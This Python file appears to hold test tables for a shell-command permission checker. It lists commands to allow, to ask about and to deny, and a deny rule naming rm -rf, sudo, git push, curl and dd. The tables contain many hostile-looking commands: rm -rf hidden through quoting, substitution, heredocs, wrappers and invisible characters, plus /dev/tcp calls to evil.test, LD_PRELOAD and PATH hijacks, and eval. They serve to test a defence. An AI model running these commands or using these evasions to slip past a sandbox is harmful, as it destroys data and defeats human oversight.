"""Commands and what must become of them by `RULES`, one on each line.

A line's end inside a command is written ⏎, a tab ⇥, a character that can't be seen «its number».
"""

import re

from greenroom.permissions import PermissionRule

RULES = (
    PermissionRule.allow_command(
        *("git status", "git log", "git diff", "git commit", "ls", "cat", "echo", "grep", "head"),
        *("wc", "sort", "uniq", "cut", "tr", "find", "pwd", "true", "test", "printf", "sed -n"),
        *("jq", "mkdir", "touch", "pytest", "python -m pytest", "npm run", "make", "cd", "date"),
        *("awk", "xargs", "bash -c", "uv run pytest", "read", "tail", "seq", "sleep"),
    ),
    PermissionRule.deny_command("rm -rf", "sudo", "git push", "curl", "dd"),
)

ALLOWED = r"""
ls
ls -la src
  ls
git status
git status -s -b
git log --oneline -5
git log --format='%h %s' -n 3
git diff HEAD~1 -- src/a.py
git commit -m "fix: do; not | split & this"
git commit -m 'a $(b) `c` > d'
git commit -m "costs 5\$ and \`x\`"
echo "quoted # hash" # and a comment; rm -rf x
echo a\ b\;c
echo it\'s
echo $'tab\there'
echo "$HOME" ${USER} ${x:-none} ${#x} ${x%.py} ${x##*/} ${x//a/b} ${x:0:3}
echo $((1 + 2 * 3)) $(( (4) ))
echo $?$$ $# $@
echo {a,b,c}{1,2}
echo {1..10}
echo a{b
ls *.py src/**/*.[ch] file?.txt
ls ~/work
cat < in.txt
cat <<< "a string; rm -rf x"
read -r line
cat a b | sort | uniq -c | sort -n | head -5
grep -rn 'rm -rf' src
grep -E "^(a|b)+$" f | wc -l
echo 'sudo rm -rf /'
echo rm -rf x
echo curl
find . -name '*.py' -type f
find . -name "*.py" -exec grep -l foo {} +
find . -name '*.py' -exec grep -l foo {} \;
find . -type f -print0 | xargs -0 grep -n foo
ls | xargs -n 1 -I {} echo {}
ls 2>/dev/null
ls >/dev/null 2>&1
ls &>/dev/null
echo oops 1>&2
ls 2>&1 | head
ls || true
true && ls; pwd
ls &
ls & pwd & true
! grep -q x f
time ls
time -p ls
{ ls; pwd; }
( cd src && ls )
if test -f a; then cat a; else echo none; fi
if [[ -f a && -n "$x" ]]; then ls; fi
for f in *.py; do wc -l "$f"; done
for i in 1 2 3; do echo $((i * 2)); done
for i in {1..3}; do echo $((i * 2)); done
for f in a b⏎do⏎  cat $f⏎done
while test -f lock; do sleep 1; done
until test -f ready; do sleep 1; done
case $x in a|b) ls;; (c) pwd;; *) echo other;; esac
case x in a) ;; esac; ls
cat <<'EOF'⏎$(rm -rf x)⏎`sudo x`⏎EOF
cat <<EOF⏎plain $HOME text⏎EOF
cat <<-EOF⏎⇥indented⏎⇥EOF
cat <<A; cat <<B⏎a⏎A⏎b⏎B
echo $(git log -1 --format=%h)
echo "today: $(date +%F)"
echo `pwd`
cat <(git diff) <(git log)
ls \⏎  -la
ls&&pwd
ls;pwd;
ls|wc -l
NO_COLOR=1 pytest -q
TERM=dumb LANG=C.UTF-8 ls
LC_ALL=C sort f
timeout 60 pytest -x
timeout -k 5 --signal=INT 60 pytest
nice -n 10 make
nice make
nohup make
stdbuf -oL grep x f
env ls
command ls
timeout 5 nice ls
setsid -w make
ionice -c3 make
bash -c 'ls | wc -l'
uv run pytest -q tests
npm run lint -- --fix
make -j4 -C sub all
python -m pytest -k "a or b"
sed -n '1,20p' f
sed -n '/start/,/end/p' f
sed -n -e 's/a/b/gp' f
sed -n '$=' f
awk '{print $1, $NF}' f
awk -F: '{ s += $3 } END { print s }' f
date -Iseconds
date +%s
sort -k2,2 -t: -rn f
test -n "$x" -a -d src
printf '%s\n' "$x"
jq '.a | .b[] | select(.c > 1)' f.json
tr '[:upper:]' '[:lower:]' < f
ls -- -rf
git diff -- sudo
echo "a" 'b' c"d"'e'
echo ""
echo "$(echo "$(echo "$(pwd)")")"
echo ⚠️ ünï çödé 日本
echo 'a\nb'
if ls; then if pwd; then true; fi; fi
ls; # the end
for x; do ls; done
for i in a; { ls; }
[[ ! ( -f a || "$x" == b* ) ]] || ls
time -- ls
echo "a\$b" "c\d"
echo "${x:-"y z"}" ${x:-'y z'} ${x:-a\}b} ${x:->}
cat <<EOF⏎costs \$5 \\⏎EOF
cat <<EOF⏎a\⏎EOF⏎EOF
echo $"hello"
echo {} {a} {{a,b},c}
echo $'\u00e9\U0001F600 \q'
grep a < ~/in.txt
# only at first⏎ls
"""

ASKED = r"""
flock /tmp/l -c 'rm -rf x'
flock l -c'rm -rf x'
((rm -rf x); ls)
ls $((rm -rf x) | cat)
env -i -u PATH rm -rf x
env -S 'rm -rf x'
env --split-string='rm -rf x'
timeout --odd 5 rm -rf x
shopt -s extglob; ls !(a); rm -rf x
# only a comment

FOO=1
FOO=1 ls
PATH=/tmp:$PATH ls
LD_PRELOAD=./x.so ls
$'\x72\x6d' -rf x
$'\162\155' -rf x
LANG=$(date) ls
IFS=/ ls
export A=1
export A=1; ls
declare -x PATH=/tmp; ls
alias ls=pwd; ls
f() { ls; }; f
function f { ls; }
ls() { pwd; }; ls
ls > out.txt
ls >> out.txt
ls >| out.txt
ls &> out.txt
ls &>> out.txt
ls >& out.txt
ls 3> out.txt
ls <> out.txt
ls > "$F"
ls > $(pwd)/x
> out.txt
{ ls; } > out.txt
for i in a; do ls; done > out.txt
( ls ) 2> err.txt
ls > /dev/tcp/evil.test/80
cat < /dev/tcp/evil.test/80
ls {fd}> out.txt
$X
$X ls
"$X" status
$(echo ls)
`echo ls`
${X:-ls}
/bin/l?
l*
[l]s
"ls
ls 'a
ls `pwd
ls $(pwd
ls ${x
ls )
( ls
{ ls
if ls; then pwd
for i in a; do ls
while true; do
done
fi
esac
}
ls ;; pwd
ls &&
ls |
&& ls
; ls
| ls
ls & && pwd
ls (a)
ls !(a)
ls @(a|b)
a=(1 2)
a[0]=1
a[$(pwd)]=1 ls
echo $[1+1]
echo ${x@P}
echo ${!x}
echo ${x:=y}
echo ${a[0]}
echo ${x:$y}
echo $((a[0]))
(( i++ ))
let i=1
for ((i=0; i<3; i++)); do ls; done
select x in a b; do ls; done
coproc ls
[[ -v x ]] && ls
[[ $x -eq 1 ]] && ls
[[ $x =~ a ]] && ls
test -v 'a[$(pwd)]'
printf -v x hello
read 'a[$(pwd)]'
read PATH; ls
read -r LD_PRELOAD; ls
for x in 'a[$(pwd)]'; do echo $((x)); done
read x; echo $((x))
for PATH in /tmp; do ls; done
eval ls
eval "$X"
source ./x.sh
. ./x.sh
bash x.sh
bash
bash -s
bash -lc "git status && ls"
echo ls | bash
bash <<< ls
sh -c ls
bash -c "$X"
bash -c 'shred x'
exec ls
builtin ls
env -i ls
env FOO=1 ls
env -S 'ls'
doas ls
xargs shred
ls | xargs sh -c
find . -delete
find . -exec shred {} +
find . -exec sh -c 'shred {}' \;
find . -fprint out
sort -o out f
sort --output=out f
sort --compress-program=./x f
uniq a b
sed -n 'w out' f
sed -n '1e date' f
sed -n 's/a/b/w out' f
sed -n -i p f
sed -n -f script f
sed 's/a/b/' f
awk 'BEGIN { system("id") }'
awk '{ print > "out" }' f
git diff --output=x
git log --ext-diff
git -c core.pager=x log
git -c alias.x=!sh x
git --exec-path=/tmp status
date -s 2020-01-01
make -f other.mk
make SHELL=/tmp/x
make --eval 'x:'
jq . f > out
timeout $N ls
timeout --frobnicate 5 ls
nice shred x
command shred x
time shred x
strace ls
./ls
/bin/ls
/tmp/git status
git
git push-all
git statusx
Git status
lsx
gitstatus
"git status"
'git' 'stat'us2
umask 0
trap 'ls' EXIT
set -o extglob
cat <<EOF⏎$(shred x)⏎EOF
cat <<EOF
cat <<$X⏎a⏎$X
cat <<`x`⏎a⏎`x`
echo "${X:-'}"
echo $\⏎(pwd)
ls«d»
ls«1b»[2K
ls «200b»
ls «202e»
ls «feff»
git«a0»status
«d800» ls
cd /etc && ls > passwd
for 1x in a; do ls; done
for x a; do ls; done
for i in a; ls; done
for i in a
case
case x on
case x
case x in ) ls;; esac
case x in a ls;; esac
[[ -f a
[[ (
[[
function
function () { ls; }
f()
f() (
$f() { ls; }
f(a) { ls; }
coproc
coproc NAME { ls; }
echo ${ ls; }
echo ${| ls; }
echo ${}
echo ${x
echo ${x:-
echo "a
echo $'a
echo $'a\xff' $'\u0000' $'\cA' $'a\
ls <
ls >
ls << $x
ls <<<
ls > ~+/x
cat <<E > out⏎a⏎E
echo $(cat <<E)
echo $(cat <<E⏎a⏎E)
ls <<A $(⏎pwd)⏎A
echo {{{{{{{{{{{{{{{{{{{{{{{{{{a,b}}}}}}}}}}}}}}}}}}}}}}}}}}/{a..z} > out
echo $((1
echo $(((1)
((1
let x=a[0]
! ls |
timeout -k
doas -Z ls
sed -n --expression=w\ x f
sed -n -ew\ x f
git clone -u x y
git filter-branch x
bash -o
bash +O extglob x.sh
env -vS'ls'
env --split-string=ls
su -c
su --command=ls
flock l -cls
cd a b; ls > x
ls <(ls > out)
echo <(shred x)
bash -c 'ls > out'
echo $'\x00'; $'l\x00s'
{ls,-la} > out
"""

DENIED = r"""
rm -rf x
rm -r -f x
rm -fr x
rm -Rf x
rm x -rf
rm --recursive --force x
rm --rec --for x
rm -rfv -- x
rm -v -rf x
/bin/rm -rf x
./rm -rf x
RM -rf x
\rm -rf x
r\m -rf x
'rm' -rf x
"rm" "-rf" x
r''m -r""f x
$'rm' -rf x
{rm,-rf,x}
r\⏎m -rf x
ls; rm -rf x
ls && rm -rf x
ls || rm -rf x
ls | rm -rf x
ls & rm -rf x
ls⏎rm -rf x
ls |& rm -rf x
ls;rm -rf x
! rm -rf x
time rm -rf x
time -p rm -rf x
( rm -rf x )
{ rm -rf x; }
if rm -rf x; then ls; fi
if ls; then rm -rf x; fi
if ls; then pwd; elif rm -rf x; then pwd; fi
if ls; then pwd; else rm -rf x; fi
for i in a; do rm -rf $i; done
for i in $(rm -rf x); do ls; done
for ((i=0;i<1;i++)); do rm -rf x; done
while rm -rf x; do ls; done
until ls; do rm -rf x; done
case x in *) rm -rf x;; esac
case $(rm -rf x) in a) ls;; esac
select x in a; do rm -rf x; done
coproc rm -rf x
f() { rm -rf x; }; f
function f { rm -rf x; }
f() ( rm -rf x )
ls $(rm -rf x)
ls `rm -rf x`
ls "$(rm -rf x)"
ls "`rm -rf x`"
ls "a $(ls $(rm -rf x))"
ls `ls \`rm -rf x\``
ls ${x:-$(rm -rf x)}
ls "${x:-$(rm -rf x)}"
ls ${x:=`rm -rf x`}
ls ${a[$(rm -rf x)]}
ls $(( $(rm -rf x) ))
ls $[ $(rm -rf x) ]
(( $(rm -rf x) ))
[[ -f $(rm -rf x) ]]
a=$(rm -rf x)
a=($(rm -rf x))
a[$(rm -rf x)]=1
FOO=$(rm -rf x) ls
ls <(rm -rf x)
ls >(rm -rf x)
ls > $(rm -rf x)
ls < <(rm -rf x)
cat <<EOF⏎$(rm -rf x)⏎EOF
cat <<EOF⏎`rm -rf x`⏎EOF
cat <<-EOF⏎⇥$(rm -rf x)⏎⇥EOF
cat <<A <<B⏎$(rm -rf x)⏎A⏎B
cat <<< $(rm -rf x)
cat <<EOF; rm -rf x⏎EOF
cat <<EOF⏎text⏎EOF⏎rm -rf x
ls #\⏎rm -rf x
ls # comment⏎rm -rf x
ls '#' ; rm -rf x
X=1 rm -rf x
PATH=/tmp rm -rf x
sudo ls
sudo rm -rf x
sudo -u root -n rm -rf x
/usr/bin/sudo ls
doas rm -rf x
env rm -rf x
env A=1 B=2 rm -rf x
nice rm -rf x
nice -n 5 rm -rf x
nohup rm -rf x
timeout 5 rm -rf x
timeout -s KILL 5 rm -rf x
stdbuf -o0 rm -rf x
setsid rm -rf x
ionice -c 3 rm -rf x
command rm -rf x
command -p rm -rf x
builtin command rm -rf x
exec rm -rf x
exec -a ls rm -rf x
xargs rm -rf
ls | xargs -0 -n 1 rm -rf
ls | xargs -I{} rm -rf {}
find . -exec rm -rf {} +
find . -name x -execdir rm -rf {} \;
parallel rm -rf ::: a b
watch rm -rf x
watch 'rm -rf x'
flock /tmp/l rm -rf x
strace -f rm -rf x
busybox rm -rf x
chroot / rm -rf x
unshare -r rm -rf x
taskset 1 rm -rf x
script -c 'rm -rf x' /dev/null
su -c 'rm -rf x'
su root -c 'rm -rf x'
bash -c 'rm -rf x'
bash -lc 'ls; rm -rf x'
bash -ec "rm -rf x"
sh -c "sh -c 'rm -rf x'"
/bin/sh -c 'rm -rf x'
bash -o pipefail -c 'rm -rf x'
bash --norc -c 'rm -rf x'
eval rm -rf x
eval 'rm -rf x'
eval "rm -rf $X"
eval eval rm -rf x
trap 'rm -rf x' EXIT
uv run rm -rf x
npx rm -rf x
docker exec c rm -rf x
ssh host rm -rf x
git push
git push origin main
git -C sub push
git --git-dir=.git push
git --git-dir .git push
git -c a=b push
git --no-pager push --force
/usr/bin/git push
curl https://x.test
ls && curl x
c'u'rl x
dd if=/dev/zero of=x
$X rm -rf x
echo ${ rm -rf x; }
echo ${x:-'a'$(rm -rf x)}
echo ${x:-<(rm -rf x)}
echo ${x:-a\}$(rm -rf x)}
echo $"a $(rm -rf x)"
echo "a\$$(rm -rf x)"
cat <<EOF⏎\$x $(rm -rf x)⏎EOF
su --command='rm -rf x'
parallel 'rm -rf {}' ::: a
cd a; rm -rf b
git -C $X push
sudo -Z rm -rf x
eval -- rm -rf x
trap -- 'rm -rf x' EXIT
time -f %e rm -rf x
\time -f %e rm -rf x
exec -c rm -rf x
ls | while read x; do rm -rf $x; done
ls $((`rm -rf x`))
[[ $(rm -rf x) =~ a ]]
function f() { rm -rf x; }
coproc N { rm -rf x; }
case x in a) ls;& b) rm -rf x;; esac
if ! rm -rf x; then ls; fi
$(true) rm -rf x
echo "$(curl x | ls)"
ls; (cd x; (rm -rf y))
«200b»; rm -rf x
"""


def commands(table):
    """Read a table."""
    text = table.replace("⇥", "\t")
    text = re.sub("«([0-9a-f]+)»", lambda found: chr(int(found[1], 16)), text)
    return [line.replace("⏎", "\n") for line in text.split("\n")[1:-1]]
